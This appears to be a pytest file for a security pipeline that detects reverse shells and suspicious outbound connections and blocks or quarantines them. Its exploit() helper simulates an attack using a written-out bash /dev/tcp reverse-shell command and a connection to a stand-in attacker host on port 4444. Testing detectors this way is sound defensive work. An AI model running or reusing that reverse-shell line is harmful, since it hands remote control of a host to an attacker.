# SPDX-License-Identifier: Apache-2.0
"""The three stages together: wherever batches are cut, whatever is broken, however often it comes."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from schemas.codec import decode_as, encode
from stream_apps.config.document import StreamConfig
from stream_apps.errors import BatchError
from stream_apps.pipeline import MAX_ERRORS, Pipeline
from tests.support.batches import SECOND, Load, Node
from tests.support.stream import cut, pipeline, rules, run, subject

if TYPE_CHECKING:
    from collections.abc import Mapping

    from stream_apps.detect.rule import Sighting, Suspect
    from stream_apps.detect.scene import Scene
    from tests.support.batches import Record

EVIL = "203.0.113.9"
BLOCK = [{"action": "quarantine-process"}, {"action": "block-destination"}]


def exploit(node: Node) -> int:
    """The demonstration's attack; returns the cut root."""
    web = node.service("/usr/bin/python3.11", ["python3", "shop.py"])
    node.connect(web, "10.2.0.9", 5432)
    shell = node.spawn(
        web, "/usr/bin/dash", ["sh", "-c", "echo x; (bash -c 'bash -i >& /dev/tcp/evil/1 0>&1')"]
    )
    bash = node.spawn(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/evil/1 0>&1"])
    child = node.fork(bash)
    node.connect(child, "10.96.0.10", 53, protocol=17)
    node.ask(child, "evil.example")
    node.answer(child, "evil.example", [EVIL])
    node.connect(child, EVIL, 4444)
    inner = node.exec(child, "/usr/bin/bash", ["bash", "-i"], stdio=["INET"] * 3, stdio_peer=f"{EVIL}:4444")
    node.spawn(inner, "/usr/bin/id")
    node.close(web, "10.2.0.9", 5432)
    return shell


def key_facts(alerts: list[Record]) -> list[tuple[str, str, str]]:
    return [(each["rule_id"], each["id"], each["response"]["subject"]) for each in alerts]


def test_the_demonstrations_attack_is_one_alert_a_rule_and_one_cut() -> None:
    node = Node()
    shell = exploit(node)
    outcome = run(node)
    assert rules(outcome) == [("nsp.rce-egress", "CRITICAL"), ("nsp.reverse-shell", "CRITICAL")]
    assert cut(outcome) == [subject(node, shell)]
    assert [each["response"]["decision"] for each in outcome.alerts] == ["issued", "issued"]
    assert outcome.alerts[0]["dns_name"] == "evil.example"
    assert outcome.errors == []


def test_alerts_and_enforcements_are_what_the_contract_says() -> None:
    node = Node()
    exploit(node)
    batch = decode_as("EventBatch", encode("EventBatch", node.batch()))
    outcome = pipeline(respond={"nsp.rce-egress": {"actions": BLOCK}}).process(batch, node.wall_ns)
    for alert in outcome.alerts:
        assert decode_as("Alert", encode("Alert", alert)) == alert
    assert len(outcome.enforcements) == 2
    for enforcement in outcome.enforcements:
        assert decode_as("Enforcement", encode("Enforcement", enforcement)) == enforcement


@pytest.mark.parametrize("size", range(1, 20))
def test_wherever_batches_are_cut_the_alerts_are_the_same(size: int) -> None:
    whole = Node()
    exploit(whole)
    expected = key_facts(run(whole).alerts)
    node, through = Node(), pipeline()
    exploit(node)
    events, alerts, enforced = node.events, [], []
    for start in range(0, len(events), size):
        outcome = through.process(node.batch(events[start : start + size]), node.wall_ns)
        alerts += outcome.alerts
        enforced += outcome.enforcements
    assert key_facts(alerts) == expected
    assert len({each["subject"] for each in enforced}) == 1


@pytest.mark.parametrize("start", range(18))
def test_whoever_starts_in_the_middle_still_cuts_the_same_tree(start: int) -> None:
    node = Node()
    shell = exploit(node)
    outcome = pipeline().process(node.batch(node.events[start:]), node.wall_ns)
    expected = [subject(node, shell)] if start < len(node.events) - 1 else []
    assert cut(outcome) == expected


def test_the_same_batch_gives_the_same_alert_and_generation_in_a_new_process() -> None:
    node = Node()
    exploit(node)
    batch = node.batch()
    first = pipeline().process(batch, node.wall_ns)
    later = pipeline().process(batch, node.wall_ns + 9 * SECOND)
    assert [each["id"] for each in first.alerts] == [each["id"] for each in later.alerts]
    for one, other in zip(first.enforcements, later.enforcements, strict=True):
        assert {**one, "issued_at_ns": 0} == {**other, "issued_at_ns": 0}


def test_a_batch_that_comes_again_says_nothing_new() -> None:
    node, through = Node(), pipeline()
    exploit(node)
    batch = node.batch()
    through.process(batch, node.wall_ns)
    again = through.process(batch, node.wall_ns)
    assert (again.alerts, again.enforcements, again.events, again.duplicates) == (
        [],
        [],
        0,
        len(batch["events"]),
    )


def test_a_tree_that_goes_on_is_told_again_only_after_the_window() -> None:
    node, through = Node(), pipeline(detect={"repeat_after_s": 60})
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    seen = []
    for wait_s in (0, 1, 30, 40, 1):
        node.now_ns += wait_s * SECOND
        node.connect(shell, EVIL, 80)
        seen.append(len(run(node, through).alerts))
    assert seen == [1, 0, 0, 1, 0]
    assert through.metrics()["detect", "suppressed"] == 3


def test_two_trees_below_one_service_are_two_alerts() -> None:
    node = Node()
    web = node.service("/usr/sbin/nginx")
    roots = [node.spawn(web, "/usr/bin/curl") for _ in range(2)]
    for each in roots:
        node.connect(each, EVIL, 80)
    assert cut(run(node)) == [subject(node, each) for each in roots]


def test_replaying_remembers_and_says_nothing() -> None:
    node, through = Node(), pipeline()
    shell = exploit(node)
    silent = through.process(node.batch(), node.wall_ns + 10**15, replaying=True)
    assert (silent.alerts, silent.enforcements) == ([], [])
    node.connect(shell, EVIL, 81)
    assert run(node, through).alerts == []
    assert ("respond", "expired") not in through.metrics()


def test_further_destinations_of_a_known_attack_are_blocked_too() -> None:
    node, through = Node(), pipeline(respond={"nsp.rce-egress": {"actions": BLOCK}})
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    node.connect(shell, EVIL, 80)
    run(node, through)
    node.connect(shell, "198.51.100.7", 443)
    outcome = run(node, through)
    assert outcome.alerts == []
    (block,) = outcome.enforcements
    assert [each["address"] for each in block["blocked_destinations"]] == [EVIL, "198.51.100.7"]


@pytest.mark.parametrize(
    "broken",
    [
        {"position": 1, "ktime_ns": 2},
        {"position": 1, "ktime_ns": 2, "process": 99},
        {"position": 1, "ktime_ns": 2, "process": -1},
        {"position": 1, "ktime_ns": 2, "process": 3},
        {"position": 1, "ktime_ns": 2, "process": "3"},
    ],
    ids=str,
)
@pytest.mark.parametrize("kind", ["nsp.SocketConnect", "nsp.DnsAnswer"])
def test_one_bad_event_is_reported_and_the_rest_are_processed(broken: dict[str, Any], kind: str) -> None:
    node = Node()
    exploit(node)
    batch = node.batch()
    batch["events"].insert(2, (kind, broken | {"position": batch["ring_start"]}))
    outcome = pipeline().process(batch, node.wall_ns)
    assert len(rules(outcome)) == 2
    (error,) = outcome.errors
    assert error.place.startswith(f"events[2] {kind} at ")
    assert error.stage == ("detect" if kind == "nsp.SocketConnect" else "correlate")


def test_errors_of_a_batch_are_all_counted_and_not_all_told() -> None:
    node, through = Node(), pipeline()
    exploit(node)
    batch = node.batch()
    batch["events"] += [
        ("nsp.SocketConnect", {"position": batch["ring_end"], "ktime_ns": 1, "process": 99})
    ] * 50
    assert len(through.process(batch, node.wall_ns).errors) == MAX_ERRORS
    assert through.metrics()["detect", "errors"] == 50


@pytest.mark.parametrize("field", ["node", "clock", "processes", "workloads", "events", "ring_start", "cpus"])
def test_what_has_no_batchs_shape_is_refused_whole(field: str) -> None:
    node = Node()
    exploit(node)
    batch = node.batch()
    del batch[field]
    with pytest.raises(BatchError, match=field) as refused:
        pipeline().process(batch, node.wall_ns)
    assert refused.value.stage == "correlate"


def test_a_broken_dictionary_entry_is_reported_with_its_place() -> None:
    node = Node()
    exploit(node)
    batch = node.batch()
    batch["processes"][-1]["workload"] = 77
    errors = pipeline().process(batch, node.wall_ns).errors
    assert [each.place for each in errors] == [f"processes[{len(batch['processes']) - 1}].workload"]


class Faulty:
    """A detector that fails where told."""

    kinds = ("nsp.SocketConnect",)
    settings = ()

    def __init__(self, inner: Any, where: str) -> None:
        self.rule = inner.rule
        self._where = where

    def watch(self, scene: Scene) -> Mapping[int, Suspect]:
        if self._where == "watch":
            raise ZeroDivisionError("watch")
        return dict.fromkeys(range(len(scene.view.processes)), _SUSPECT)

    def judge(self, *_: Any) -> Sighting | None:
        raise ZeroDivisionError("judge")


_SUSPECT: Any = None


@pytest.mark.parametrize("where", ["watch", "judge"])
def test_a_faulty_detector_does_not_stop_the_others(where: str) -> None:
    node, through = Node(), pipeline()
    shell = node.spawn(node.service("/usr/sbin/nginx"), "/usr/bin/dash")
    node.ask(shell, "evil.example")
    node.connect(shell, EVIL, 80)
    through._detectors.append(Faulty(through._detectors[0], where))
    outcome = run(node, through)
    assert rules(outcome) == [("nsp.rce-egress", "CRITICAL")]
    assert [each.reason for each in outcome.errors] == [f"ZeroDivisionError: {where}"]


@pytest.mark.parametrize(
    ("detail", "severity"),
    [
        ("unsigned: no key id", "HIGH"),
        ("replayed: generation 3", "HIGH"),
        ("malformed: not Avro", "MEDIUM"),
        ("expired: an hour ago", "LOW"),
    ],
)
def test_a_refused_command_is_an_alert(detail: str, severity: str) -> None:
    node = Node()
    node.notice("STARTED", "fresh load")
    node.notice("ENFORCEMENT_REFUSED", detail, "process/x")
    outcome = run(node)
    assert rules(outcome) == [("nsp.enforcement-refused", severity)]
    (alert,) = outcome.alerts
    assert alert["workload"]["kind"] == "HOST"
    assert alert["response"]["action"] == "alert"
    assert encode("Alert", alert)


def test_two_refused_commands_at_one_position_are_two_alerts() -> None:
    node = Node()
    node.notice("ENFORCEMENT_REFUSED", "unsigned: a")
    node.notice("ENFORCEMENT_REFUSED", "unsigned: b")
    assert len({each["id"] for each in run(node).alerts}) == 2


def test_what_the_default_configuration_decides_is_a_dry_run() -> None:
    node = Node()
    exploit(node)
    outcome = Pipeline(StreamConfig()).process(node.batch(), node.wall_ns)
    assert outcome.enforcements == []
    assert {each["response"]["decision"] for each in outcome.alerts} == {"dry-run"}


def test_an_honest_load_gives_no_alert_and_the_account_closes() -> None:
    through = pipeline()
    kinds: dict[str, int] = {}
    for batch in Load().batches(5):
        outcome = through.process(batch, batch["clock"]["wall_ns"])
        assert (outcome.alerts, outcome.errors, outcome.duplicates) == ([], [], 0)
        for kind, _ in batch["events"]:
            kinds[kind] = kinds.get(kind, 0) + 1
    total = sum(kinds.values())
    shares = [
        kinds[f"nsp.{a}"] + kinds[f"nsp.{b}"]
        for a, b in (("SocketConnect", "SocketClose"), ("DnsQuestion", "DnsAnswer"))
    ]
    assert [round(each / total, 2) for each in shares] == [0.7, 0.2]
    totals = through.ledger.totals()
    assert (totals.produced, totals.seen, totals.unaccounted) == (total, total, 0)
